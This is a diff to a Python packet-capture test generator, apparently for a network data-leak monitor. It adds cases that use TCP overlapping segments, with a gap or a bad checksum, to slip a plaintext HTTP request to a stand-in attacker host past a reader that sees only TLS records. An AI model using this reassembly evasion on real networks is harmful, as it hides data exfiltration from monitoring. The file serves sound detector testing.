@@ -3008,6 +3008,83 @@ def case_smtp_session_ok(n):
     return cap, {"pass": [passm(n), m2]}
 
 
+def hole_replace(n, cport, isn, hole):
+    """After the handshake: a record's first segment; then a hole in its
+    body that the server lacks (hole: "gap", never sent; "badsum", sent with
+    a wrong checksum); the rest of the body with the next record (read in
+    order by us, queued out of order by the server); then one segment from
+    the hole to the end, with plaintext where the next record was. The
+    server takes that in-order segment and drops the queued one it covers
+    (Linux tcp_ofo_queue, BSD tcp_reass): it reads the plaintext."""
+    cap = Capture()
+    t = tls_established(cap, S1, cport, E2M, isn, n)
+    rec1 = tls_appdata(n + "c1", 600)
+    rec2 = tls_appdata(n + "c2", 120)
+    http = b"GET /up HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
+    http += b"x" * (len(rec2) - len(http))
+    assert len(http) == len(rec2)
+    base = t.cseq
+    t.raw(True, "PA", rec1[:100], seq=base)
+    if hole == "badsum":
+        t.raw(True, "PA", rec1[100:400], seq=base + 100, tcpkw={"chksum": 0xDEAD})
+    else:
+        t.raw(True, "PA", rec1[300:400], seq=base + 300)
+    t.raw(True, "PA", rec1[400:] + rec2, seq=base + 400)
+    t.raw(False, "A", ack=base + 100)
+    t.raw(True, "PA", rec1[100:] + http, seq=base + 100)
+    t.cseq = base + len(rec1) + len(rec2)
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_after_hole_gap_replace(n):
+    """The hole is a gap inside the first record's body (never sent)."""
+    return hole_replace(n, 42464, 564, "gap")
+
+
+@case
+def case_after_hole_badsum_replace(n):
+    """The hole is a copy of the body with a wrong checksum."""
+    return hole_replace(n, 42465, 565, "badsum")
+
+
+@case
+def case_after_hole_loss_ok(n):
+    """A genuine loss after us: the server lacks a body segment of a record
+    and the segment with the next record's header; it asks again (SACK) and
+    the client sends both again, byte for byte; then a gap before us inside
+    a body, filled by the sender's retransmission."""
+    cap = Capture()
+    t = tls_established(cap, S1, 42466, E2M, 566, n)
+    rec1 = tls_appdata(n + "c1", 600)
+    rec2 = marked_record(passm(n), n + "c2", 120)
+    rec3 = tls_appdata(n + "c3", 900)
+    data = rec1 + rec2 + rec3
+    base = t.cseq
+    for o in range(0, len(data), 300):
+        t.raw(True, "PA", data[o:o + 300], seq=base + o)
+    t.raw(False, "A", ack=base + 300)
+    t.raw(False, "A", ack=base + 300)
+    t.raw(True, "PA", data[300:900], seq=base + 300)
+    t.raw(False, "A", ack=base + len(data))
+    t.cseq = base + len(data)
+    rec4 = tls_appdata(n + "c4", 700) + marked_record(passm(n) + b"2", n + "c5", 100)
+    base = t.cseq
+    t.raw(True, "PA", rec4[:200], seq=base)
+    t.raw(True, "PA", rec4[400:600], seq=base + 400)
+    t.raw(True, "PA", rec4[600:], seq=base + 600)
+    t.raw(False, "A", ack=base + 200)
+    t.raw(True, "PA", rec4[200:400], seq=base + 200)
+    t.raw(False, "A", ack=base + 600)
+    t.raw(True, "PA", rec4[600:], seq=base + 600, gap=200000)
+    t.cseq = base + len(rec4)
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"pass": [passm(n), passm(n) + b"2"]}
+
+
 # ------------------------------------------------------------------- main
 
 def write_case(outdir, name):
